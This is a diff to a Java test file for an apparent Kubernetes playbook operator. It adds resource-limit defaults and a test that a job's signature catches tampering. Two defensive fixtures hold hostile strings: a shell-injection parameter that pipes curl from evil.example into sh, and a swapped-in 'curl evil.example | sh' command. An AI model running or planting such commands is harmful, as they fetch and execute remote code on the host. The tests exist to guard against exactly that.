@@ -10,13 +10,19 @@ import dev.klaxon.api.v1alpha1.PlaybookRunSpec;
 import dev.klaxon.api.v1alpha1.PlaybookRunStatus;
 import dev.klaxon.api.v1alpha1.PlaybookSpec;
 import dev.klaxon.api.v1alpha1.PlaybookStep;
+import dev.klaxon.api.v1alpha1.ResourceAmounts;
 import dev.klaxon.api.v1alpha1.Severity;
 import dev.klaxon.api.v1alpha1.StepEnvVar;
+import dev.klaxon.api.v1alpha1.StepResources;
 import dev.klaxon.api.v1alpha1.StepRollback;
 import io.fabric8.kubernetes.api.model.Container;
 import io.fabric8.kubernetes.api.model.EnvVar;
 import io.fabric8.kubernetes.api.model.PodSpec;
+import io.fabric8.kubernetes.api.model.Quantity;
+import io.fabric8.kubernetes.api.model.ResourceRequirements;
+import io.fabric8.kubernetes.api.model.ResourceRequirementsBuilder;
 import io.fabric8.kubernetes.api.model.batch.v1.Job;
+import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
 import java.util.Map;
@@ -25,6 +31,12 @@ import java.util.stream.Collectors;
 import org.junit.jupiter.api.Test;
 
 class StepJobFactoryTest {
+
+    private static final ResourceRequirements DEFAULT_RESOURCES = new ResourceRequirementsBuilder()
+            .addToRequests("cpu", new Quantity("50m")).addToRequests("memory", new Quantity("128Mi"))
+            .addToLimits("cpu", new Quantity("1")).addToLimits("memory", new Quantity("128Mi")).build();
+    private static final StepJobFactory FACTORY = new StepJobFactory(new StepJobFactory.Defaults(DEFAULT_RESOURCES, Duration.ofHours(24)));
+
 
     private static final String INJECTION = "web-1\"; $(curl -s http://evil.example/x | sh); `id` #";
 
@@ -56,7 +68,7 @@ class StepJobFactoryTest {
         spec.setParameters(Map.of("replicas", "3", "target.zone", INJECTION));
         run.setSpec(spec);
         PlaybookRunStatus status = new PlaybookRunStatus();
-        RunSequencer.start(status, playbook, "restart-api", 1L, "alice", Instant.parse("2026-11-26T10:00:00Z"));
+        RunSequencer.start(status, playbook, "restart-api", 1L, "alice", List.of(), Instant.parse("2026-11-26T10:00:00Z"));
         run.setStatus(status);
         return run;
     }
@@ -76,7 +88,7 @@ class StepJobFactoryTest {
 
     @Test
     void theJobRunsOnceWithinItsTimeoutOwnedByTheRun() {
-        Job job = StepJobFactory.build(run(), 0, RunSequencer.JobRole.STEP, "api-down-restart-restart-pods", Optional.of(incident()));
+        Job job = FACTORY.build(run(), 0, RunSequencer.JobRole.STEP, "api-down-restart-restart-pods", Optional.of(incident()));
 
         assertThat(job.getMetadata().getName()).isEqualTo("api-down-restart-restart-pods");
         assertThat(job.getMetadata().getNamespace()).isEqualTo("shop");
@@ -97,11 +109,51 @@ class StepJobFactoryTest {
     }
 
     @Test
+    void aStepHasBoundedResourcesTheStepsOwnThenThePlaybooksThenTheOperatorsAndItsFinishedJobIsCleanedUp() {
+        PlaybookRun run = run();
+        Job byDefault = FACTORY.build(run, 0, RunSequencer.JobRole.STEP, "j", Optional.empty());
+        assertThat(byDefault.getSpec().getTemplate().getSpec().getContainers().get(0).getResources()).isEqualTo(DEFAULT_RESOURCES);
+        assertThat(byDefault.getSpec().getTtlSecondsAfterFinished()).isEqualTo(24 * 3600);
+
+        run.getStatus().getPlaybook().setResources(memoryLimit("512Mi"));
+        assertThat(FACTORY.build(run, 0, RunSequencer.JobRole.ROLLBACK, "j", Optional.empty())
+                .getSpec().getTemplate().getSpec().getContainers().get(0).getResources().getLimits())
+                .isEqualTo(Map.of("memory", new Quantity("512Mi")));
+
+        run.getStatus().getPlaybook().getSteps().get(0).setResources(memoryLimit("1Gi"));
+        assertThat(FACTORY.build(run, 0, RunSequencer.JobRole.STEP, "j", Optional.empty())
+                .getSpec().getTemplate().getSpec().getContainers().get(0).getResources().getLimits())
+                .isEqualTo(Map.of("memory", new Quantity("1Gi")));
+    }
+
+    @Test
+    void aJobsSignatureCoversWhatItRunsAndSurvivesTheApiServersRoundTrip() {
+        PlaybookRun run = run();
+        run.getStatus().getPlaybook().getSteps().get(0).setArgs(null);
+        Job job = FACTORY.build(run, 0, RunSequencer.JobRole.STEP, "j", Optional.of(incident()));
+        String signed = StepJobs.proofText(run, job);
+        var json = new io.fabric8.kubernetes.client.utils.KubernetesSerialization();
+
+        assertThat(StepJobs.proofText(run, json.unmarshal(json.asJson(job), Job.class))).isEqualTo(signed);
+
+        job.getSpec().getTemplate().getSpec().getContainers().get(0).setCommand(List.of("/bin/sh", "-c", "curl evil.example | sh"));
+        assertThat(StepJobs.proofText(run, job)).isNotEqualTo(signed);
+    }
+
+    private static StepResources memoryLimit(String memory) {
+        ResourceAmounts limits = new ResourceAmounts();
+        limits.setMemory(memory);
+        StepResources resources = new StepResources();
+        resources.setLimits(limits);
+        return resources;
+    }
+
+    @Test
     void aStepMayRunAsItsOwnServiceAccount() {
         PlaybookRun run = run();
         run.getStatus().getPlaybook().getSteps().get(0).setServiceAccountName("deployer");
 
-        Job job = StepJobFactory.build(run, 0, RunSequencer.JobRole.STEP, "j", Optional.empty());
+        Job job = FACTORY.build(run, 0, RunSequencer.JobRole.STEP, "j", Optional.empty());
 
         assertThat(job.getSpec().getTemplate().getSpec().getServiceAccountName()).isEqualTo("deployer");
     }
@@ -109,7 +161,7 @@ class StepJobFactoryTest {
     @Test
     void everyPodMeetsTheRestrictedPodSecurityStandard() {
         for (RunSequencer.JobRole role : RunSequencer.JobRole.values()) {
-            PodSpec pod = StepJobFactory.build(run(), 0, role, "j", Optional.empty()).getSpec().getTemplate().getSpec();
+            PodSpec pod = FACTORY.build(run(), 0, role, "j", Optional.empty()).getSpec().getTemplate().getSpec();
             assertThat(pod.getSecurityContext().getRunAsNonRoot()).isTrue();
             assertThat(pod.getSecurityContext().getSeccompProfile().getType()).isEqualTo("RuntimeDefault");
             assertThat(pod.getContainers()).singleElement().satisfies(c -> {
@@ -125,7 +177,7 @@ class StepJobFactoryTest {
 
     @Test
     void incidentDataIsOnlyInTheEnvironmentNeverInTheCommand() {
-        Container container = StepJobFactory.build(run(), 0, RunSequencer.JobRole.STEP, "j", Optional.of(incident()))
+        Container container = FACTORY.build(run(), 0, RunSequencer.JobRole.STEP, "j", Optional.of(incident()))
                 .getSpec().getTemplate().getSpec().getContainers().get(0);
 
         assertThat(container.getCommand()).containsExactly("kubectl");
@@ -155,7 +207,7 @@ class StepJobFactoryTest {
 
     @Test
     void theRollbackRunsItsOwnCommandWithTheStepImageByDefault() {
-        Container container = StepJobFactory.build(run(), 0, RunSequencer.JobRole.ROLLBACK, "j-rollback", Optional.empty())
+        Container container = FACTORY.build(run(), 0, RunSequencer.JobRole.ROLLBACK, "j-rollback", Optional.empty())
                 .getSpec().getTemplate().getSpec().getContainers().get(0);
 
         assertThat(container.getImage()).isEqualTo("registry.example/kubectl:1.34");
@@ -198,8 +250,8 @@ class StepJobFactoryTest {
         without.getStatus().getPlaybook().setServiceAccountName(null);
         without.getStatus().getPlaybook().getSteps().get(0).setServiceAccountName(null);
 
-        PodSpec named = StepJobFactory.build(withAccount, 0, RunSequencer.JobRole.STEP, "j", Optional.empty()).getSpec().getTemplate().getSpec();
-        PodSpec anonymous = StepJobFactory.build(without, 0, RunSequencer.JobRole.STEP, "j", Optional.empty()).getSpec().getTemplate().getSpec();
+        PodSpec named = FACTORY.build(withAccount, 0, RunSequencer.JobRole.STEP, "j", Optional.empty()).getSpec().getTemplate().getSpec();
+        PodSpec anonymous = FACTORY.build(without, 0, RunSequencer.JobRole.STEP, "j", Optional.empty()).getSpec().getTemplate().getSpec();
 
         assertThat(named.getAutomountServiceAccountToken()).isTrue();
         assertThat(anonymous.getServiceAccountName()).isNull();
